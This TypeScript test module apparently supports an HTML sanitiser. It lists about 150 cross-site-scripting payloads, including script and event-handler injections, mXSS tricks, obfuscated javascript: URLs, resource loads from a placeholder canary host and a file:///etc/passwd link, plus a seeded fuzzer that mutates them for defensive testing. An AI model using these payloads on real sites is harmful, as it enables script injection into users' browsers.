/** HTML that tries to run a script or to reach another host, and random mutations of it (P52). */

export const CANARY = 'https://canary.example';
const RUN = 'alert(1)';

/** Whole elements. */
const elements: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<script src="${CANARY}/a.js"></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>x</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${CANARY}/a.png">`,
  `<img srcset="${CANARY}/b.png 2x" src=x>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="/api/cms/images/../../x" onerror=${RUN}>`,
  `<img src="/api/cms/images/a.png" onload=${RUN} onerror=${RUN}>`,
  `<image href=x onerror=${RUN}>`,
  `<picture><source srcset="${CANARY}/c.png"><img src=x></picture>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><image href="${CANARY}/d.svg"/></svg>`,
  `<svg><use href="${CANARY}/e.svg#x"/></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="${CANARY}/f"></iframe>`,
  `<object data="${CANARY}/g"></object>`,
  `<embed src="${CANARY}/h">`,
  `<link rel=stylesheet href="${CANARY}/i.css">`,
  `<link rel=preload as=image href="${CANARY}/j.png">`,
  `<style>@import "${CANARY}/k.css";</style>`,
  `<style>*{background:url(${CANARY}/l.png)}</style>`,
  `<div style="background:url(${CANARY}/m.png)">x</div>`,
  `<p style="background-image:image-set('${CANARY}/n.png' 1x)">x</p>`,
  `<meta http-equiv=refresh content="0;url=${CANARY}/o">`,
  `<base href="${CANARY}/">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<video><source onerror=${RUN}></video>`,
  `<video src="${CANARY}/p.mp4" autoplay></video>`,
  `<audio src="${CANARY}/q.mp3" autoplay></audio>`,
  `<video poster="${CANARY}/r.png"></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<table background="${CANARY}/s.png"><tr><td>x</table>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
  `<p onmouseover=${RUN} onclick=${RUN} onpointerenter=${RUN}>x</p>`,
  `<p id=location name=body>x</p><a id=document name=cookie>x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `</p><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'-(${RUN})-'`,
  `$\{${RUN}}`,
  `{{constructor.constructor("${RUN}")()}}`,
  `</title><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</script><script>${RUN}</script>`,
  `</noscript><script>${RUN}</script>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<img src=x\u0000 onerror=${RUN}>`,
];

/** Addresses of links that would run a script or open a page of their own. */
const addresses: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `java&NewLine;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A;avascript&colon;${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `//canary.example/x" onclick="${RUN}`,
  `data:text/html,<script>parent.${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
  `file:///etc/passwd`,
  `x:javascript:${RUN}`,
  `" onmouseover="${RUN}`,
  `' onfocus='${RUN}' autofocus x='`,
  `\`javascript:${RUN}\``,
];

const linksTo = (address: string): string[] => [
  `<a href="${address}">x</a>`,
  `<a href='${address}' target=_blank>x</a>`,
  `<img src="${address}">`,
];

/** 150 payloads, each of which runs or reaches something in a page that does not sanitise. */
export const payloads: readonly string[] = [...elements, ...addresses.flatMap(linksTo)].slice(0, 150);

/** A reproducible sequence of numbers from 0 to 1 (mulberry32). */
const randomFrom = (seed: number) => {
  let state = seed;
  return (): number => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
};

const inserted = [
  '<',
  '>',
  '"',
  "'",
  '/',
  '=',
  ' ',
  '\t',
  '\n',
  '\u0000',
  '\u200b',
  '&',
  '&#0;',
  '--',
  '<!--',
  '-->',
  '<p>',
  '</p>',
  '<svg>',
  '<math>',
  '<style>',
  '</style>',
  '<b ',
  ']]>',
  '\\',
  '`',
];
const wrappers = [
  'p',
  'blockquote',
  'li',
  'h2',
  'figure',
  'strong',
  'a',
  'span',
  'svg',
  'math',
  'table',
  'select',
  'template',
  'noscript',
  'textarea',
];

/** Random changes of payloads: cut, joined, wrapped, with characters added, removed, doubled or in another case. */
export const mutate = (count: number, seed = 1): string[] => {
  const random = randomFrom(seed);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
  const at = (text: string): number => Math.floor(random() * (text.length + 1));
  const splice = (text: string, from: number, remove: number, add: string): string =>
    text.slice(0, from) + add + text.slice(from + remove);
  const changes: readonly ((text: string) => string)[] = [
    (text) => splice(text, at(text), 0, pick(inserted)),
    (text) => splice(text, at(text), 1 + Math.floor(random() * 4), ''),
    (text) => text.slice(0, at(text)) + pick(payloads).slice(at(text)),
    (text) => text + pick(payloads),
    (text) => {
      const tag = pick(wrappers);
      return `<${tag}>${text}</${tag}>`;
    },
    (text) => [...text].map((letter) => (random() < 0.3 ? letter.toUpperCase() : letter)).join(''),
    (text) => text.replace(/[<>"'&]/, (sign) => (random() < 0.5 ? `&#${sign.charCodeAt(0)};` : sign + sign)),
    (text) => splice(text, at(text), 0, text.slice(at(text), at(text))),
  ];
  return Array.from({ length: count }, () => {
    let text = pick(payloads);
    for (let times = 1 + Math.floor(random() * 4); times > 0; times -= 1) text = pick(changes)(text);
    return text;
  });
};
